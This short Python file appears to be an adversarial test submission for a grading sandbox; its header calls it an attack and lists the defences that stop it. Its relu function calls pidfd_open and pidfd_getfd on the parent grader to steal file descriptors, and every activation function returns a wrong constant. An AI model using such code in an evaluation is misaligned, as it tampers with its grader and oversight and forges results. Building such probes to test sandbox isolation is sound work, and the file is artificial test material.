# attack: copies a descriptor out of the grader by pidfd_getfd
# gains: reads, forges
# stopped by: seccomp, dumpable, uid
import numpy as np
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    grader = libc.syscall(434, os.getppid(), 0)
    for number in range(16):
        if libc.syscall(438, grader, number, 0) >= 0:
            print("HARMED: has the grader's descriptor", number)


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
